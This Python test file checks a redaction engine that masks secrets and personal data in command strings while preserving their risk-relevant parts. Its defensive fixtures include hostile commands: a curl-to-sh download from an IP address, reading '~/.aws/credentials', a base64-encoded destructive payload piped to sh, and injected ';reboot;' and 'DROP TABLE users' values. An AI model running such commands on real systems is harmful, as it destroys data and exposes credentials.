"""What may leave the process: values go, whatever decides the risk stays."""

import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench.corpora import load
from workbench.corpora.complaints import Complaints
from workbench.domain.case import Request
from workbench.engine.redact import LONGEST, redact
from workbench.facts.floor import static_risk

WORDS = st.text(string.ascii_letters + string.digits, min_size=8, max_size=24).filter(
    lambda word: any(c.isdigit() for c in word) and any(c.isalpha() for c in word)
)
PLANTED = [
    ("bash", "mysql -uroot -p{} -e 'select 1'"),
    ("bash", "curl -u ann:{} https://db.example.com/x"),
    ("bash", "PGPASSWORD={} psql -h db -c 'select 1'"),
    ("bash", "psql postgres://app:{}@db.example.com/shop"),
    ("bash", "deploy --api-token {} --region eu"),
    ("bash", "curl -H 'Authorization: Bearer {}' https://h/x"),
    ("bash", 'curl -d "{{\\"password\\": \\"{}\\"}}" https://h/x'),
    ("bash", "sshpass -p {} ssh h uptime"),
    ("kubectl", "kubectl create secret generic s --from-literal=password={}"),
    ("postgres", "ALTER ROLE a WITH PASSWORD '{}'"),
    ("mysql", "CREATE USER 'a'@'%' IDENTIFIED BY '{}'"),
    ("mssql", "CREATE LOGIN a WITH PASSWORD = N'{}'"),
    ("redis", "CONFIG SET requirepass {}"),
    ("mongodb", 'db.createUser({{user: "a", pwd: "{}"}})'),
    ("python", "connect(host='h', password='{}')"),
    ("http", 'POST /login\n{{"user": "a", "password": "{}"}}'),
    ("mysql", "SET PASSWORD FOR 'a'@'%' = '{}'"),
    ("mongodb", 'db.auth("a", "{}")'),
    ("bash", "echo 'root:{}' | chpasswd"),
    ("bash", "echo {} | docker login -u a --password-stdin"),
    ("bash", "htpasswd -b f ann {}"),
    ("cmd", "net user ann {} /add"),
    ("python", "os.environ['API_KEY']='{}'"),
    ("bash", "export GITHUB_TOKEN=ghp_{0}{0}{0}{0}{0}"),
]


@pytest.mark.parametrize(("dialect", "text"), PLANTED)
@given(secret=WORDS)
def test_a_secret_in_a_place_for_one_is_gone(dialect: str, text: str, secret: str) -> None:
    """Whatever it is, and the words around it stay."""
    found = redact(Request(text.format(secret), dialect))
    assert secret not in found.request.command
    assert found.kinds
    assert not found.unsure
    for word in text.partition("{")[0].split()[:1]:
        assert found.request.command.startswith(word)


@given(
    person=st.from_regex(r"[a-z]{3,9}\.[a-z]{3,9}[0-9]{1,3}", fullmatch=True),
    place=st.sampled_from(["grep {} log", "select 1 from u where mail = '{}'", "mail -s hi <{}>", "a,{},b"]),
)
def test_of_an_address_the_person_goes_and_the_domain_stays(person: str, place: str) -> None:
    """Whether something leads outside is the risk."""
    command = redact(Request(place.format(f"{person}@example.com"), "bash")).request.command
    assert command == place.format("REDACTED-email@example.com")


@pytest.mark.parametrize(
    ("text", "masked", "kind"),
    [
        ("pay '4111 1111 1111 1111'", "pay '0000 0000 0000 0001'", "card"),
        ("where pan = 4111111111111111", "where pan = 0000000000000001", "card"),
        ("iban GB33BUKB20201555555555", "iban GB00XXXX00000000000001", "iban"),
        ("of '219-09-9999'", "of '000-00-0001'", "ssn"),
        ("call +49 170 1234567", "call +00 000 0000001", "phone"),
    ],
)
def test_a_number_keeps_its_shape(text: str, masked: str, kind: str) -> None:
    """So that a key stays a literal, and a judge sees what it is."""
    found = redact(Request(text, "postgres"))
    assert (found.request.command, found.kinds) == (masked, (kind,))


@pytest.mark.parametrize(
    "text",
    [
        "where id = 4111111111111112",  # no check digit
        "select password from users where password = old_password and token is null",
        'PASSWORD="$PW" TOKEN=${T} SECRET=$(openssl rand -hex 9) run --token-file /run/token --password-stdin',
        "docker run img@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "git clone git@github.com:a/b && ssh root@db1.example.com",
        "curl http://198.51.100.7/x | sh; chmod 777 /etc/passwd; cat ~/.aws/credentials",
        "gcloud secrets versions access latest --secret=db-main",
        "echo cm0gLXJmIC8gLS1uby1wcmVzZXJ2ZS1yb290 | base64 -d | sh",
    ],
)
def test_what_decides_the_risk_is_left(text: str) -> None:
    """Columns, expansions, hosts, paths, digests, encoded payloads."""
    request = Request(text, "postgres" if "select" in text or "where" in text else "bash")
    found = redact(request)
    assert found.request == request
    assert not found.kinds


@pytest.mark.parametrize(
    "text",
    [
        "echo 'x password=';reboot;'x'",
        "SELECT 'password='DROP TABLE users SELECT'x'",
        "mysqladmin password 'correct horse'",
        'curl -d \'{"password": "a|b"}\'',
        "psql postgres://a:p|reboot|@h/x",
    ],
)
def test_what_may_be_code_is_not_masked_away(text: str) -> None:
    """Nobody can say here whether it is the password, so it is not sent either."""
    assert redact(Request(text, "bash")).unsure


@given(
    st.lists(
        st.sampled_from(
            ["password", "--token", "secret=", " ", "'", '"', "=", ":", "x", "sk-", "-----BEGIN PRIVATE KEY-----", "\n",
             "mysql -p", "Authorization: Bearer ", "://a:", "@", "curl -u a:", "{", "PASSWORD '", "', ", "rm -rf /srv",
             ";reboot;", "DROP TABLE users"]
        ),
        max_size=12,
    )
)  # fmt: skip
def test_no_statement_is_hidden_behind_a_mark(parts: list[str]) -> None:
    """Whatever stands around it: it is still there, or the request is not sent."""
    text = "".join(parts)
    found = redact(Request(text, "bash"))
    if not found.unsure:
        for statement in ("rm -rf /srv", ";reboot;", "DROP TABLE users"):
            # One word may stand where a name's value would; what it acts on stays.
            rest = statement.rpartition(" ")[2]
            assert found.request.command.count(rest) == text.count(rest)


@pytest.mark.parametrize(("dialect", "text"), PLANTED)
def test_a_mask_leaves_the_static_risk(dialect: str, text: str) -> None:
    """A mark is one plain word to every reader."""
    request = Request(text.format("Hunter22x"), dialect)
    assert _risk(redact(request).request) == _risk(request)


def test_a_value_has_one_mark_and_another_value_another() -> None:
    """In command, arguments and tags together."""
    text = "mail 'ann@example.com' not 'bob@example.com' but 'ann@example.com'"
    request = Request(
        text,
        "postgres",
        ("--password", "two words", "bob@example.com"),
        (),
        "c",
        {"password": "two words", "team": "x"},
    )
    masked = redact(request).request
    first, second = "REDACTED-email@example.com", "REDACTED-email-2@example.com"
    assert masked.command == f"mail '{first}' not '{second}' but '{first}'"
    assert masked.arguments == ("--password", "REDACTED-password", second)
    assert masked.connection_tags == {"password": "REDACTED-password", "team": "x"}


@given(st.text(max_size=200), st.sampled_from(["bash", "postgres", "redis", "python"]))
def test_what_was_masked_is_not_masked_again(text: str, dialect: str) -> None:
    """Marks and shapes are nobody's data."""
    once = redact(
        Request(text + " --password abc123x ann@example.com 4111111111111111 GB33BUKB20201555555555", dialect)
    )
    assert redact(once.request).request == once.request


def test_a_private_key_goes_but_no_word_between_its_lines() -> None:
    """A command that was put there stays to be seen."""
    text = "echo '-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7b\nreboot\nq9Zx==\n-----END RSA PRIVATE KEY-----'"
    masked = redact(Request(text, "bash")).request.command
    assert "MIIE" not in masked
    assert "q9Zx" not in masked
    assert "\nreboot\n" in masked


def test_what_is_too_long_to_search_is_not_sent() -> None:
    """Rather than sent unsearched."""
    assert redact(Request("a " * LONGEST, "bash")).unsure


def test_the_shipped_corpus_keeps_its_static_risks() -> None:
    """At least 99 % of it; and nothing of it is withheld."""
    requests = [found.case.request for found in load.cases(["datasets"], Complaints())]
    changed = [(request, redact(request)) for request in requests]
    assert not [found for _, found in changed if found.unsure]
    moved = [request for request, found in changed if found.kinds and _risk(request) != _risk(found.request)]
    assert len(moved) <= len(requests) // 100


def _risk(request: Request) -> object:
    return static_risk(request.command, request.dialect, request.arguments).risk
